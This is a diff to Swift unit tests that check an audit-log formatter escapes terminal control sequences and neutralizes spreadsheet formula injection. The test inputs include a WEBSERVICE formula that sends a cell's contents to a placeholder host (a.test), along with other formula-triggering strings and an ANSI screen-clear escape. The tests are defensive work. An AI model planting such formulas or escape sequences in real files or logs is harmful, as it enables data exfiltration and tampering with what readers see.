@@ -15,8 +15,18 @@ struct AuditLineTests {
   @Test func `prints a row without what controls a terminal, in one line`() {
     let line = AuditLine.text(APIShapes.auditRow(row))
     #expect(
-      line == "7\t1970-01-01T00:00:00Z\tlogin\tok\tmina\tperson\t-\ta b[2J책상\t-\t{\"x\":\"\"}")
+      line
+        == "7\t1970-01-01T00:00:00Z\tlogin\tok\tmina\tperson\t-\ta[U+0009]b[U+001B][2J[U+202E]책상\t-\t{\"x\":\"[U+009B]\"}"
+    )
     #expect(AuditLine.titles.split(separator: "\t").count == line.split(separator: "\t").count)
+  }
+
+  @Test(arguments: ["=WEBSERVICE(\"http://a.test/\"&A1)", "@SUM(1)", "+1", "-2+3", "\u{FF1D}1"])
+  func `prints no cell that a spreadsheet would compute`(machine: String) throws {
+    let row = AuditRow(
+      link: row.link, event: AuditEntry(time: 0, kind: .login, account: "=1+1", actor: .person, machine: machine))
+    let cells = AuditLine.text(APIShapes.auditRow(row)).split(separator: "\t")
+    #expect(cells[4] == "'=1+1" && cells[7] == "'\(machine)" && cells[8] == "-")
   }
 
   @Test func `prints a row as JSON in ASCII, from which it can be read exactly`() throws {
